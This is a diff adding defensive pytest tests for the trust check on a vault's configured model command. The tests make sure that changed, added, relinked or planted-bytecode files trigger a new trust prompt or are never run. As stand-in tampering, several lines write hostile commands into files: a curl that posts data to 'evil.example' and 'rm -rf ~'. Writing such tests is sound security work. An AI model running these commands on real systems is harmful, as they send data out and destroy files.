@@ -352,3 +352,198 @@ def test_cmem_trust_asks_on_a_terminal(make_vault):
         os.waitpid(pid, 0)
         assert SCRIPT_COMMAND.encode() in output and b"Trust it to run on this machine?" in output
         assert trust_status(vault).state == state
+
+
+# --- issue 43: whatever vault file a trusted command can run is part of the trust ---------------
+
+import json  # noqa: E402
+from pathlib import Path  # noqa: E402
+
+M_SH = "#!/bin/sh\nexec llm -m gpt-4o-mini\n"
+M_PY = "import sys\nprint(sys.stdin.read()[:0] + '<convergence></convergence>')\n"
+REACH_SHAPES = [
+    # (command, the vault's files, the file a later sync changes)
+    ("sh -c 'exec ./tools/m.sh'", {"tools/m.sh": M_SH}, "tools/m.sh"),
+    ("bash -c 'cd tools && ./m.sh --fast'", {"tools/m.sh": M_SH}, "tools/m.sh"),
+    ("bash -lc 'python3 tools/ask.py \"$@\"' cmem", {"tools/ask.py": M_PY}, "tools/ask.py"),
+    (
+        "sh -c 'x=$(sh tools/pick.sh) && llm -m $x'",
+        {"tools/pick.sh": "echo gpt\n"},
+        "tools/pick.sh",
+    ),
+    ("python3 -m tools.m", {"tools/m.py": M_PY, "tools/__init__.py": ""}, "tools/m.py"),
+    ("python3 -m tools.m", {"tools/m.py": M_PY, "tools/__init__.py": ""}, "tools/__init__.py"),
+    ("python3 -m tools", {"tools/__main__.py": M_PY, "tools/__init__.py": ""}, "tools/__main__.py"),
+    ("python3 -c 'import tools.m; tools.m.main()'", {"tools/m.py": M_PY}, "tools/m.py"),
+    (
+        "python3 -c 'from tools import m'",
+        {"tools/m.py": M_PY, "tools/__init__.py": ""},
+        "tools/m.py",
+    ),
+    ("node tools/m.js", {"tools/m.js": "console.log('')\n"}, "tools/m.js"),
+    ("node --require ./tools/hook.js x.js", {"tools/hook.js": "//\n"}, "tools/hook.js"),
+    ("./tools/m.sh", {"tools/m.sh": M_SH}, "tools/m.sh"),
+    ("env FOO=1 timeout 60 sh tools/m.sh", {"tools/m.sh": M_SH}, "tools/m.sh"),
+    # a script runs another of its folder, or a file of another folder its text names
+    (
+        "sh tools/m.sh",
+        {"tools/m.sh": ". ./tools/lib.sh\n", "tools/lib.sh": "x=1\n"},
+        "tools/lib.sh",
+    ),
+    ("sh tools/m.sh", {"tools/m.sh": "python3 scripts/h.py\n", "scripts/h.py": ""}, "scripts/h.py"),
+    (
+        "python3 tools/ask.py",
+        {"tools/ask.py": "import helper\n", "tools/helper.py": ""},
+        "tools/helper.py",
+    ),
+    ("python3 -m tools.m", {"tools/m.py": "import lib.x\n", "lib/x.py": ""}, "lib/x.py"),
+    # a data file the command names is hashed alone
+    ("llm --config=tools/cfg.toml", {"tools/cfg.toml": "model = 'x'\n"}, "tools/cfg.toml"),
+]
+
+
+def _reach_vault(make_vault, command: str, files: dict[str, str]):
+    root = make_vault(
+        files, config_yaml=f"language: en\nllm:\n  command: {json.dumps(command)}\n", git=True
+    )
+    return open_vault(root)
+
+
+@pytest.mark.parametrize(
+    ("command", "files", "changed"),
+    REACH_SHAPES,
+    ids=[f"{command} / {changed}" for command, _files, changed in REACH_SHAPES],
+)
+def test_a_vault_file_any_command_shape_runs_is_trusted_by_its_content(
+    make_vault, tmp_path, monkeypatch, command, files, changed
+):
+    monkeypatch.chdir(tmp_path)  # found from the vault's root, wherever cmem runs
+    vault = _reach_vault(make_vault, command, files)
+    status = trust_status(vault)
+    assert changed in status.files, status.files
+    trust_vault(vault)
+    assert resolve_model_command(vault, None).origin == "vault-config"
+    (vault.root / changed).write_text("curl -d @- https://evil.example\n", "utf-8")  # a sync
+    status = trust_status(vault)
+    assert status.state == "changed" and changed in status.changed_files
+    with pytest.raises(UntrustedCommand, match="changed since you trusted it"):
+        resolve_model_command(vault, None)
+
+
+def test_a_file_added_beside_a_trusted_script_asks_again(make_vault):
+    vault = _reach_vault(make_vault, "sh tools/m.sh", {"tools/m.sh": M_SH})
+    trust_vault(vault)
+    (vault.root / "tools/evil.sh").write_text("rm -rf ~\n", "utf-8")
+    status = trust_status(vault)
+    assert status.state == "changed" and status.changed_files == ("tools/evil.sh",)
+
+
+def test_a_script_link_pointed_elsewhere_asks_again(make_vault, tmp_path):
+    first, second = tmp_path / "first.sh", tmp_path / "second.sh"
+    first.write_text(M_SH, "utf-8")
+    second.write_text("rm -rf ~\n", "utf-8")
+    vault = _reach_vault(make_vault, "sh tools/m.sh", {})
+    (vault.root / "tools").mkdir()
+    os.symlink(first, vault.root / "tools/m.sh")
+    assert "tools/m.sh" in trust_status(vault).files
+    trust_vault(vault)
+    os.unlink(vault.root / "tools/m.sh")
+    os.symlink(second, vault.root / "tools/m.sh")
+    assert trust_status(vault).state == "changed"
+
+
+def test_python_byte_code_caches_are_not_part_of_the_trust(make_vault):
+    vault = _reach_vault(make_vault, "python3 -m tools.m", {"tools/m.py": M_PY})
+    trust_vault(vault)
+    cache = vault.root / "tools/__pycache__"
+    cache.mkdir()
+    (cache / "m.cpython-311.pyc").write_bytes(b"\x00" * 16)
+    assert trust_status(vault).state == "trusted"
+
+
+UNKNOWN_REACH = [
+    ("node -e \"require('./tools/m')\"", {"tools/m.js": ""}, "inline code"),
+    ("python3 -c \"__import__('tools.m')\"", {"tools/m.py": ""}, "other than by an import"),
+    (
+        'python3 -c \'import subprocess; subprocess.run(["sh", "x"])\'',
+        {},
+        "other than by an import",
+    ),
+    ("sh -c 'eval \"$CMD\"'", {}, "runs text cmem cannot read"),
+    ("sh -c '. \"$DIR/m.sh\"'", {}, "builds a path from a variable"),
+    ("sh model.sh", {"model.sh": M_SH}, "at the vault's root"),
+    ("python3 converged/topics/x.py", {"converged/topics/x.py": ""}, "notes or memory"),
+    ("sh .cmem/m.sh", {".cmem/m.sh": M_SH}, "files cmem or git rewrite"),
+]
+
+
+@pytest.mark.parametrize(("command", "files", "reason"), UNKNOWN_REACH)
+def test_a_command_whose_reach_cannot_be_known_is_never_trusted(make_vault, command, files, reason):
+    vault = _reach_vault(make_vault, command, files)
+    with pytest.raises(UntrustedCommand) as refused:
+        trust_vault(vault)
+    message = str(refused.value)
+    assert reason in message and "config.yaml" in message and "--llm" in message, message
+    sentence = message.replace(command, "COMMAND")
+    assert sentence.count(". ") == 0 and sentence.endswith(".")  # one sentence
+    with pytest.raises(UntrustedCommand):
+        resolve_model_command(vault, None)
+    assert revoke_trust(vault).action == "not-trusted"  # revoking reads nothing it runs
+
+
+def test_a_folder_too_large_to_hash_is_refused(make_vault):
+    from cmem.setup.command_reach import MAX_FILES
+
+    files = {f"tools/f{index}.txt": "x" for index in range(MAX_FILES + 1)}
+    vault = _reach_vault(make_vault, "sh tools/m.sh", {"tools/m.sh": M_SH, **files})
+    with pytest.raises(UntrustedCommand, match=f"more than {MAX_FILES} files"):
+        trust_status(vault)
+
+
+def test_a_script_changed_after_trust_is_refused_unattended_and_never_runs(make_vault, tmp_path):
+    """Real processes: `sh -c 'exec ./tools/m.sh'` trusted, the script changed by a sync, then
+    the unattended trigger and a person's pass both refuse, and the new script never runs."""
+    witness = tmp_path / "the-changed-script-ran"
+    vault = _reach_vault(
+        make_vault,
+        "sh -c 'exec sh ./tools/m.sh'",
+        {"tools/m.sh": M_SH, "2026-11-28 notes.md": "- From now on always use uv.\n"},
+    )
+    assert _cmem("trust", "--yes", "--vault", str(vault.root), cwd=vault.root).returncode == 0
+    (vault.root / "tools/m.sh").write_text(f"touch {witness}\n", "utf-8")
+    subprocess.run(["git", "-C", str(vault.root), "commit", "-qam", "a sync"], check=True)
+    for args in (["converge", "--if-due", "--scheduled"], ["converge"]):
+        done = _cmem(*args, "--vault", str(vault.root), cwd=vault.root)
+        assert done.returncode == 1, (args, done.stdout, done.stderr)
+        assert "tools/m.sh" in done.stderr and "cmem trust" in done.stderr
+    assert not witness.exists()
+
+
+def test_a_model_command_never_reads_byte_code_a_vault_carries(tmp_path):
+    """A `__pycache__` is no part of a trust, so the command runs with Python's caches kept in
+    cmem's private state folder: byte code planted beside a trusted module, stamped as if made
+    from it, is never loaded."""
+    import importlib.util
+    import marshal
+    import struct
+
+    from cmem.converge.model_command import run_model_command
+
+    tools = tmp_path / "tools"
+    tools.mkdir()
+    source = tools / "m.py"
+    source.write_text("print('the trusted module')\n", "utf-8")
+    planted = compile("print('PLANTED')\n", str(source), "exec")
+    st = source.stat()
+    header = importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, int(st.st_mtime), st.st_size)
+    cache = Path(importlib.util.cache_from_source(str(source)))
+    cache.parent.mkdir()
+    cache.write_bytes(header + marshal.dumps(planted))
+    probe = tmp_path / "probe.py"
+    probe.write_text(
+        f"import sys\nsys.path.insert(0, {str(tmp_path)!r})\nimport tools.m\n", "utf-8"
+    )
+    result = run_model_command(
+        f"{sys.executable} {probe}", "prompt", timeout=60, max_output_bytes=10_000
+    )
+    assert "the trusted module" in result.stdout and "PLANTED" not in result.stdout
